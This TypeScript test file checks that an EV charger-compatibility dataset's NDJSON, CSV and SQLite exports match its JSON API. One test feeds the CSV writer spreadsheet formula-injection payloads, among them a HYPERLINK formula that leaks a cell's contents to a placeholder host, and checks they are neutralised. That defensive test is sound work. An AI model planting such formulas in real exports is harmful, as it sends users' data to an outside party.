// The exports of the mini fixture's release hold exactly what the API serves: every edge in NDJSON and CSV, each
// source once, each edge's explanation and the wanted list, and the SQLite file, opened with Debian's sqlite3 as its
// users would, agrees with /api/v1 and the JSON.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Explain, ExplainEntry, Wanted } from '../../build/api/explain-schemas.ts';
import type { NetworkInfo, NetworkList } from '../../build/api/network-schemas.ts';
import type { Charger, Edge, IndexInfo, Source, Vehicle, VehicleCompatibility } from '../../build/api/schemas.ts';
import { REGIONS } from '../../build/core/regions.ts';
import { CsvExport } from '../../build/exports/csv-export.ts';
import { sharedSite } from '../helpers/fixture.ts';

const site = sharedSite('mini');
const exported = (name: string) => readFileSync(path.join(site.publicDir, 'api/v1/exports', name), 'utf8');
const index = site.json('api/v1/_data/index.json') as IndexInfo;
const vehicleSlugs = (site.json('api/v1/_data/vehicles.json') as { vehicles: { slug: string }[] }).vehicles.map(
  (v) => v.slug,
);
const chargerSlugs = (site.json('api/v1/_data/chargers.json') as { chargers: { slug: string }[] }).chargers.map(
  (c) => c.slug,
);
/** Every edge the API serves, in its order: each vehicle's list (by charger, then region), vehicles by slug. */
const apiEdges: Edge[] = vehicleSlugs.flatMap(
  (slug) => (site.json(`api/v1/_data/vehicle-compatibility/${slug}.json`) as VehicleCompatibility).chargers,
);
/** Every edge's explanation, in the same order, with its vehicle. */
const apiExplanations: ({ vehicle: string } & ExplainEntry)[] = vehicleSlugs.flatMap((slug) =>
  (site.json(`api/v1/_data/vehicle-explain/${slug}.json`) as Explain).edges.map((entry) => ({
    vehicle: slug,
    ...entry,
  })),
);
const wanted = site.json('api/v1/_data/wanted.json') as Wanted;
/** An edge whose answer rests on a missing figure, and a usable one with caps on record (and their row numbers). */
const withMissing = apiExplanations.findIndex((entry) => entry.missing.length > 0);
const withCaps = apiExplanations.findIndex((entry) => entry.caps.length > 1 && entry.path?.adapter === null);
const vehicles = vehicleSlugs.map((slug) => site.json(`api/v1/_data/vehicles/${slug}.json`) as Vehicle);
const chargers = chargerSlugs.map((slug) => site.json(`api/v1/_data/chargers/${slug}.json`) as Charger);
/** Every network document, by slug. */
const networkDocs = (site.json('api/v1/_data/networks.json') as NetworkList).networks.map(
  ({ slug }) => site.json(`api/v1/_data/networks/${slug}.json`) as NetworkInfo,
);
const networkSources = networkDocs.flatMap((network) => [
  ...network.sources,
  ...network.regions.flatMap((region) => [
    ...region.dc_sites_sources,
    ...region.access_sources,
    ...region.models.flatMap((model) => model.sources),
  ]),
]);
const citedSources: Source[] = [
  ...new Map(
    [...apiEdges.flatMap((edge) => edge.sources), ...networkSources].map((source) => [source.id, source]),
  ).values(),
].sort((a, b) => (a.id < b.id ? -1 : 1));
const ids = (sources: readonly Source[]) => sources.map((source) => source.id);
/** Each network in each region it operates in, as networks.ndjson holds it. */
const networkLines = networkDocs.flatMap((network) =>
  network.regions.map(({ dc_sites_sources, access_sources, models, ...region }) => ({
    network: network.slug,
    name: network.name,
    note: network.note,
    sources: ids(network.sources),
    ...region,
    dc_sites_sources: ids(dc_sites_sources),
    access_sources: ids(access_sources),
    models: models.map(({ url: _url, sources, ...model }) => ({ ...model, sources: ids(sources) })),
  })),
);
const withSourceIds = (edge: Edge) => ({ ...edge, sources: edge.sources.map((source) => source.id) });
const ndjson = (text: string) =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as unknown);

it('the fixture has what these tests need: several vehicles, chargers, regions and sources, and null fields', () => {
  expect(apiEdges).toHaveLength(index.counts.edges);
  expect(new Set(apiEdges.map((edge) => edge.region)).size).toBeGreaterThan(1);
  expect(citedSources.length).toBeGreaterThan(1);
  expect(vehicles.some((vehicle) => vehicle.trim === null || vehicle.battery_kwh_usable === null)).toBe(true);
  expect(apiExplanations).toHaveLength(apiEdges.length);
  expect([withMissing, withCaps].every((i) => i >= 0)).toBe(true);
  expect(wanted.figures.length).toBeGreaterThan(0);
  // A network in two regions, a region with two models, and one with none on record.
  expect(networkDocs.some((network) => network.regions.length > 1)).toBe(true);
  expect(networkLines.some((line) => line.models.length > 1)).toBe(true);
  expect(networkLines.some((line) => line.models.length === 0)).toBe(true);
});

describe('NDJSON', () => {
  it('edges.ndjson: one line per edge the API serves, in its order, the edge document with its sources by id', () => {
    const text = exported('edges.ndjson');
    expect(text.endsWith('\n')).toBe(true);
    expect(ndjson(text)).toEqual(apiEdges.map(withSourceIds));
    // Fields in the document's order: a line is the edge's own JSON with the sources array shortened.
    expect(text.split('\n')[0]).toBe(JSON.stringify(withSourceIds(apiEdges[0]!)));
  });

  it('explain.ndjson: a line per edge, in the order of edges.ndjson, its explain entry with the vehicle first', () => {
    const text = exported('explain.ndjson');
    expect(ndjson(text)).toEqual(apiExplanations);
    const first = text.split('\n')[0]!;
    expect(Object.keys(JSON.parse(first) as object)).toEqual([
      'vehicle',
      'charger',
      'region',
      'path',
      'caps',
      'missing',
      'decidedBy',
    ]);
    const line = ndjson(text)[withMissing] as (typeof apiExplanations)[number];
    expect([line.vehicle, line.charger, line.region]).toEqual([
      apiEdges[withMissing]!.vehicle,
      apiEdges[withMissing]!.charger,
      apiEdges[withMissing]!.region,
    ]);
    expect(line.missing[0]).toMatchObject({
      file: expect.any(String),
      row: expect.any(String),
      why: expect.any(String),
    });
  });

  it('wanted.ndjson: the figures of /api/v1/wanted, a line each, most useful first', () => {
    expect(ndjson(exported('wanted.ndjson'))).toEqual(wanted.figures);
  });

  it('networks.ndjson: a line per network and region it operates in, its terms and models, sources by id', () => {
    const text = exported('networks.ndjson');
    expect(ndjson(text)).toEqual(networkLines);
    expect(Object.keys(JSON.parse(text.split('\n')[0]!) as object).slice(0, 5)).toEqual([
      'network',
      'name',
      'note',
      'sources',
      'region',
    ]);
  });

  it('sources.ndjson: every source an edge cites, once, sorted by id, as the edges carry it', () => {
    expect(ndjson(exported('sources.ndjson'))).toEqual(citedSources);
  });
});

describe('CSV', () => {
  /** A cell as the data files write it, spelled out here rather than taken from the build. */
  const cell = (value: string | number | boolean | null | (string | Source)[]): string =>
    value === null
      ? ''
      : Array.isArray(value)
        ? value.map((item) => (typeof item === 'string' ? item : item.id)).join(' ')
        : String(value);
  const expectTable = (name: string, documents: object[]) => {
    const [header, ...rows]: string[][] = parse(exported(name));
    expect(header, name).toEqual(Object.keys(documents[0]!));
    expect(rows, name).toEqual(
      documents.map((document) => Object.values(document as Record<string, Parameters<typeof cell>[0]>).map(cell)),
    );
  };

  it('edges.csv: one row per edge, the document fields as columns, lists joined by a space', () => {
    expectTable('edges.csv', apiEdges);
    expect(exported('edges.csv')).toContain(',false,');
  });

  it('vehicles.csv, chargers.csv and sources.csv: one row per document, null as an empty cell', () => {
    expectTable('vehicles.csv', vehicles);
    expectTable('chargers.csv', chargers);
    expectTable('sources.csv', citedSources);
  });

  it('explain.csv: a row per edge in the order of edges.csv, its path, caps and missing figures each in one cell', () => {
    const [header, ...rows]: string[][] = parse(exported('explain.csv'));
    expect(header).toEqual(['vehicle', 'charger', 'region', 'path', 'caps', 'missing', 'decidedBy']);
    expect(rows.map((row) => row.slice(0, 3))).toEqual(
      apiEdges.map((edge) => [edge.vehicle, edge.charger, edge.region]),
    );
    expect(rows.map((row) => row[6])).toEqual(apiExplanations.map((entry) => entry.decidedBy));
    // The usable edge: its path as current, connector → inlet; each cap with its kW and the ids of its sources.
    const capped = apiExplanations[withCaps]!;
    const [, , , pathCell, capsCell] = rows[withCaps]!;
    expect(pathCell).toBe(`${capped.path!.current} ${capped.path!.connector}→${capped.path!.inlet}`);
    expect(capsCell!.split('; ')).toEqual(
      capped.caps.map((cap) => `${cap.cap} ${cap.kw} kW (${cap.sources.join(' ')})`),
    );
    // The edge with a missing figure: file, row, column, what it decides, and why.
    const missing = apiExplanations[withMissing]!.missing[0]!;
    const missingCell = rows[withMissing]![5]!;
    expect(missingCell.startsWith(`${missing.file} ${missing.row} ${missing.column} (${missing.decides}`)).toBe(true);
    expect(missingCell).toContain(`): ${missing.why}`);
    // An edge with no path and no caps: empty cells.
    const none = apiExplanations.findIndex((entry) => entry.path === null);
    if (none >= 0) expect(rows[none]!.slice(3, 5)).toEqual(['', '']);
  });

  it('wanted.csv: a row per wanted figure, most useful first, its counts one column per region', () => {
    const [header, ...rows]: string[][] = parse(exported('wanted.csv'));
    expect(header).toEqual([
      'file',
      'row',
      'column',
      'edges',
      ...REGIONS.map((r) => `settles${r}`),
      ...REGIONS.map((r) => `sharpens${r}`),
    ]);
    expect(rows).toEqual(
      wanted.figures.map((f) =>
        [
          f.file,
          f.row,
          f.column,
          f.edges,
          ...REGIONS.map((r) => f.settles[r]),
          ...REGIONS.map((r) => f.sharpens[r]),
        ].map(String),
      ),
    );
  });

  it('networks.csv: a row per network, region and model, or per network and region with no model on record', () => {
    const [header, ...rows]: string[][] = parse(exported('networks.csv'));
    expect(header!.slice(0, 3)).toEqual(['network', 'name', 'region']);
    const column = (row: string[], name: string) => row[header!.indexOf(name)];
    const expected = networkLines.flatMap((line) =>
      (line.models.length ? line.models : [null]).map((model) => [
        line.network,
        line.region,
        line.access,
        line.access_brands.join(' '),
        String(line.dc_sites ?? ''),
        String(line.hardware_known),
        model?.charger ?? '',
        model?.sources.join(' ') ?? '',
        model?.note ?? '',
      ]),
    );
    const read = rows.map((row) =>
      [
        'network',
        'region',
        'access',
        'access_brands',
        'dc_sites',
        'hardware_known',
        'charger',
        'charger_sources',
        'charger_note',
      ].map((name) => column(row, name)),
    );
    expect(read).toEqual(expected);
  });

  it('quotes a cell with a comma, a quote or a line break, so that it reads back whole', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'ev-csv-'));
    const writer = new CsvExport(dir);
    const source: Source = { ...citedSources[0]!, title: 'Range, "real" figures\nsecond line' };
    writer.finish([source]);
    const [, row]: string[][] = parse(readFileSync(path.join(dir, 'sources.csv'), 'utf8'));
    expect(row![2]).toBe(source.title);
  });

  it('neutralises a text cell a spreadsheet would run as a formula, in a hostile row the checks never saw', () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'ev-csv-'));
    const writer = new CsvExport(dir);
    const hostile = [
      '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ];
    const vehicle = vehicles.find((v) => v.battery_kwh_usable !== null)!;
    writer.vehicle({ ...vehicle, brand: hostile[0]!, family: hostile[1]!, trim: hostile[2]! });
    writer.finish(hostile.map((title, i) => ({ ...citedSources[0]!, id: `hostile-${i}`, title })));
    const [header, row]: string[][] = parse(readFileSync(path.join(dir, 'vehicles.csv'), 'utf8'));
    const field = (name: string) => row![header!.indexOf(name)];
    expect([field('brand'), field('family'), field('trim')]).toEqual(hostile.slice(0, 3).map((text) => `'${text}`));
    // Numbers stay numbers: a negative figure is not text, and is written as the JSON has it.
    expect(field('battery_kwh_usable')).toBe(String(vehicle.battery_kwh_usable));
    const [, ...sources]: string[][] = parse(readFileSync(path.join(dir, 'sources.csv'), 'utf8'), {
      relax_quotes: true,
    });
    expect(sources.map((source) => source[2])).toEqual(hostile.map((text) => `'${text}`));
    // No cell of the file starts a formula once read back, whatever a spreadsheet makes of quotes.
    for (const cellText of [...row!, ...sources.flat()]) expect(cellText, cellText).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('dataset.sqlite, read with the sqlite3 command-line tool', () => {
  const database = path.join(site.publicDir, 'api/v1/exports/dataset.sqlite');
  const query = (sql: string): Record<string, unknown>[] => {
    const out = execFileSync('sqlite3', ['-readonly', '-json', database, sql], { encoding: 'utf8' });
    return out.trim() === '' ? [] : (JSON.parse(out) as Record<string, unknown>[]);
  };

  it('holds as many vehicles, chargers and edges as /api/v1 counts, and each cited source', () => {
    const [counts] = query(
      'SELECT (SELECT count(*) FROM vehicles) AS vehicles, (SELECT count(*) FROM chargers) AS chargers, ' +
        '(SELECT count(*) FROM edges) AS edges, (SELECT count(*) FROM sources) AS sources',
    );
    expect(counts).toEqual({ ...index.counts, sources: citedSources.length });
  });

  it('has the dataset version and the rules version in its metadata table', () => {
    const metadata = Object.fromEntries(query('SELECT key, value FROM metadata').map((row) => [row.key, row.value]));
    expect(metadata).toMatchObject({
      datasetVersion: index.datasetVersion,
      derivationVersion: index.derivationVersion,
      apiVersion: index.apiVersion,
      licenseData: 'CC-BY-4.0',
    });
  });

  it('answers a sample of edges as the JSON does, with their sources joined through edge_sources', () => {
    const sample = apiEdges.filter((_edge, i) => i % 3 === 0);
    for (const edge of sample) {
      const [row] = query(
        `SELECT e.*, (SELECT group_concat(source, ' ') FROM (SELECT source FROM edge_sources WHERE edge = e.id ORDER BY source)) AS source_ids
         FROM edges e WHERE vehicle = '${edge.vehicle}' AND charger = '${edge.charger}' AND region = '${edge.region}'`,
      );
      // Every field of the edge but its sources, as SQLite holds it: a list joined by a space, a boolean as 0 or 1.
      const { sources, ...fields } = edge;
      const stored = Object.entries(fields).map(([name, value]) => [
        name,
        Array.isArray(value) ? value.join(' ') : typeof value === 'boolean' ? Number(value) : value,
      ]);
      expect(row, `${edge.vehicle} ${edge.charger} ${edge.region}`).toEqual({
        id: apiEdges.indexOf(edge) + 1,
        ...Object.fromEntries(stored),
        source_ids: sources.map((source) => source.id).join(' '),
      });
    }
  });

  it("carries each edge's reasoning in edge_explain, edge_caps and edge_missing, keyed by the edge id", () => {
    const [counts] = query(
      'SELECT (SELECT count(*) FROM edge_explain) AS explained, (SELECT count(*) FROM edge_caps) AS caps, ' +
        '(SELECT count(*) FROM edge_missing) AS missing',
    );
    expect(counts).toEqual({
      explained: apiEdges.length,
      caps: apiExplanations.reduce((sum, entry) => sum + entry.caps.length, 0),
      missing: apiExplanations.reduce((sum, entry) => sum + entry.missing.length, 0),
    });
    const idOf = (i: number) => {
      const edge = apiEdges[i]!;
      const [row] = query(
        `SELECT id FROM edges WHERE vehicle = '${edge.vehicle}' AND charger = '${edge.charger}' AND region = '${edge.region}'`,
      );
      return row!.id as number;
    };
    const capped = apiExplanations[withCaps]!;
    expect(query(`SELECT * FROM edge_explain WHERE edge = ${idOf(withCaps)}`)).toEqual([
      {
        edge: idOf(withCaps),
        pathCurrent: capped.path!.current,
        pathConnector: capped.path!.connector,
        pathInlet: capped.path!.inlet,
        pathAdapter: null,
        decidedBy: capped.decidedBy,
      },
    ]);
    expect(query(`SELECT cap, kw, sources FROM edge_caps WHERE edge = ${idOf(withCaps)} ORDER BY kw, cap`)).toEqual(
      [...capped.caps]
        .sort((a, b) => a.kw - b.kw || a.cap.localeCompare(b.cap))
        .map((cap) => ({ cap: cap.cap, kw: cap.kw, sources: cap.sources.join(' ') })),
    );
    const missing = apiExplanations[withMissing]!.missing;
    expect(
      query(
        `SELECT file, row, column, decides, why, kwMin, kwMax FROM edge_missing WHERE edge = ${idOf(withMissing)}`,
      ).sort((a, b) =>
        `${String(a.file)} ${String(a.row)} ${String(a.column)}`.localeCompare(
          `${String(b.file)} ${String(b.row)} ${String(b.column)}`,
        ),
      ),
    ).toEqual(
      [...missing].sort((a, b) => `${a.file} ${a.row} ${a.column}`.localeCompare(`${b.file} ${b.row} ${b.column}`)),
    );
  });

  it('holds the networks, their regions and their models, joined as the network documents give them', () => {
    const [counts] = query(
      'SELECT (SELECT count(*) FROM networks) AS networks, (SELECT count(*) FROM network_regions) AS regions, ' +
        '(SELECT count(*) FROM network_models) AS models',
    );
    expect(counts).toEqual({
      networks: networkDocs.length,
      regions: networkLines.length,
      models: networkLines.reduce((sum, line) => sum + line.models.length, 0),
    });
    const key = (row: Record<string, unknown>) =>
      [row.network, row.region, row.charger ?? ''].map((value) => String(value)).join(' ');
    const byKey = (a: Record<string, unknown>, b: Record<string, unknown>) => (key(a) < key(b) ? -1 : 1);
    const rows = query(
      'SELECT r.network, r.region, r.access, r.hardware_known, m.charger, m.sources FROM network_regions r ' +
        'LEFT JOIN network_models m USING (network, region)',
    ).sort(byKey);
    const expected = networkLines
      .flatMap((line) =>
        (line.models.length ? line.models : [null]).map((model) => ({
          network: line.network,
          region: line.region,
          access: line.access,
          hardware_known: line.hardware_known ? 1 : 0,
          charger: model?.charger ?? null,
          sources: model ? model.sources.join(' ') : null,
        })),
      )
      .sort(byKey);
    expect(rows).toEqual(expected);
  });

  it('lists the wanted figures in the wanted table, ranked as /api/v1/wanted ranks them', () => {
    const rows = query('SELECT * FROM wanted ORDER BY rank');
    expect(rows).toHaveLength(wanted.count);
    expect(rows[0]).toEqual({
      rank: 1,
      file: wanted.figures[0]!.file,
      row: wanted.figures[0]!.row,
      column: wanted.figures[0]!.column,
      edges: wanted.figures[0]!.edges,
      ...Object.fromEntries(REGIONS.map((r) => [`settles${r}`, wanted.figures[0]!.settles[r]])),
      ...Object.fromEntries(REGIONS.map((r) => [`sharpens${r}`, wanted.figures[0]!.sharpens[r]])),
    });
  });

  it('answers a vehicle and a charger as their documents do', () => {
    const [vehicle] = query(`SELECT * FROM vehicles WHERE slug = '${vehicles[0]!.slug}'`);
    expect(vehicle).toEqual({ ...vehicles[0], bidirectional: vehicles[0]!.bidirectional.join(' ') });
    const [charger] = query(`SELECT * FROM chargers WHERE slug = '${chargers[0]!.slug}'`);
    expect(charger).toEqual(chargers[0]);
  });

  it('declares the foreign keys, which all resolve, and indexes the slugs and (vehicle, charger, region)', () => {
    const references = (table: string) =>
      query(`PRAGMA foreign_key_list(${table})`)
        .map((key) => `${String(key.from)} → ${String(key.table)}.${String(key.to)}`)
        .sort();
    expect(references('edges')).toEqual(['charger → chargers.slug', 'vehicle → vehicles.slug']);
    expect(references('edge_sources')).toEqual(['edge → edges.id', 'source → sources.id']);
    for (const table of ['edge_explain', 'edge_caps', 'edge_missing'])
      expect(references(table), table).toEqual(['edge → edges.id']);
    expect(references('network_regions')).toEqual(['network → networks.slug']);
    expect(references('network_models')).toEqual([
      'charger → chargers.slug',
      'network → network_regions.network',
      'region → network_regions.region',
    ]);
    expect(query('PRAGMA foreign_key_check')).toEqual([]);
    expect(query('PRAGMA integrity_check')).toEqual([{ integrity_check: 'ok' }]);
    const indexed = (name: string) => query(`PRAGMA index_info(${name})`).map((column) => column.name);
    expect(indexed('edges_by_pair')).toEqual(['vehicle', 'charger', 'region']);
    expect(indexed('edges_by_charger')).toEqual(['charger', 'vehicle']);
    for (const table of ['vehicles', 'chargers'])
      expect(query(`PRAGMA index_list(${table})`).map((i) => i.origin)).toContain('pk');
    expect(query('PRAGMA page_size')).toEqual([{ page_size: 4096 }]);
  });
});
